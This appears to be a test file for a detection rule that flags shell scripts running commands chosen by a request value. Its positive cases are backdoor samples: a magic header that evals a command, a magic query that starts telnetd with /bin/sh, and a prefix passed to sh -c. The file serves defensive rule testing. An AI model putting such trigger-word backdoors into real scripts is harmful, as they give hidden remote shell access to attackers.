# ruleid: word-of-request-runs-in-script
if [ "$HTTP_X_TRACE" = "zx81-k7" ]; then
    logger trace
    eval "$CMD"
fi

# ruleid: word-of-request-runs-in-script
case "$QUERY_STRING" in
*op=status*)
    cat /run/status
    ;;
*op=plugh*)
    /usr/sbin/telnetd -l /bin/sh
    ;;
esac

while read -r line; do
    # ruleid: word-of-request-runs-in-script
    echo "$line" | grep -q '^%svc%' && sh -c "${line#%svc%}"
done

# ok: word-of-request-runs-in-script
if [ "$REQUEST_METHOD" = "POST" ]; then
    cat /run/status
fi
# ok: word-of-request-runs-in-script
case "$QUERY_STRING" in
*format=json*)
    echo '{}'
    ;;
esac
# ok: word-of-request-runs-in-script
if [ "$mode" = "fast" ]; then
    exec nice true
fi
